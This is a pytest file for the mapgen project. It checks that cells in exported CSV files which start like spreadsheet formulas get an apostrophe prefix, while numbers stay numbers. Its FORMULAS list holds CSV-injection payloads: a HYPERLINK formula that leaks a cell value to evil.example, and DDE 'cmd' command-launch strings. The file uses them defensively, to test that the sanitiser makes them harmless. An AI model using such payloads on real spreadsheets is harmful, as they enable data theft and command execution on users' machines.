"""The CSV downloads are opened in Excel and WPS: no cell from the input runs as a formula
there, and the numbers mapgen computed stay numbers."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from mapgen import build
from mapgen.cli import main
from mapgen.sanitize import FORMULA_STARTS, csv_text, spreadsheet_cell

CLEAN = Path(__file__).resolve().parent / "data" / "inputs" / "clean"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "-3.5",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def is_inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+8621", "'+8621"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＠x", "'＠x"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        (-3.5, -3.5),
        (12, 12),
    ],
)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe_numbers_stay(
    value: object, expected: object
):
    assert spreadsheet_cell(value) == expected


def test_csv_text_neutralises_headers_and_cells_and_keeps_numbers():
    text = csv_text([["id", "=bad header"], ["-1", -1.5], [None, 7]])
    assert rows(text) == [["id", "'=bad header"], ["'-1", "-1.5"], ["", "7"]]


@pytest.fixture(scope="module")
def formula_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("formulas") / "project"
    shutil.copytree(CLEAN, project)
    services = (project / "services.csv").read_text(encoding="utf-8-sig").splitlines()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for i, line in enumerate(csv.reader(services)):
        if i:
            line[2] = FORMULAS[i % len(FORMULAS)]
        writer.writerow(line)
    (project / "services.csv").write_text(out.getvalue(), encoding="utf-8-sig")
    townships = json.loads((project / "townships.geojson").read_text(encoding="utf-8"))
    for i, feature in enumerate(townships["features"]):
        feature["properties"]["name"] = FORMULAS[i % len(FORMULAS)]
        feature["properties"]["name_en"] = FORMULAS[(i + 1) % len(FORMULAS)]
    (project / "townships.geojson").write_text(json.dumps(townships), encoding="utf-8")
    return project


def test_formula_cells_are_inert_in_every_csv_download(formula_project: Path, tmp_path: Path):
    site = build(formula_project, tmp_path / "site").out
    downloads = sorted(site.rglob("*.csv"))
    assert {p.name for p in downloads} >= {"services.csv", "coverage.csv"}
    seen = set()
    for path in downloads:
        for row in rows(path.read_text(encoding="utf-8")):
            for cell in row:
                assert is_inert(cell), (path.name, cell)
                seen.add(cell)
    assert {"'" + f for f in FORMULAS[:5]} <= seen  # kept, readable, with the apostrophe
    coverage = rows((site / "data/coverage.csv").read_text(encoding="utf-8"))
    header = coverage[0]
    for row in coverage[1:]:
        assert row[header.index("stations")].isdigit()
        distance = row[header.index("distance_km")]
        assert distance == "" or float(distance) >= 0


def test_coverage_csv_in_the_terminal_is_inert_too(formula_project: Path):
    result = CliRunner().invoke(main, ["coverage", str(formula_project), "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in rows(result.output) for cell in row]
    assert all(is_inert(cell) for cell in cells), [c for c in cells if not is_inert(c)]
    assert "'" + FORMULAS[0] in cells
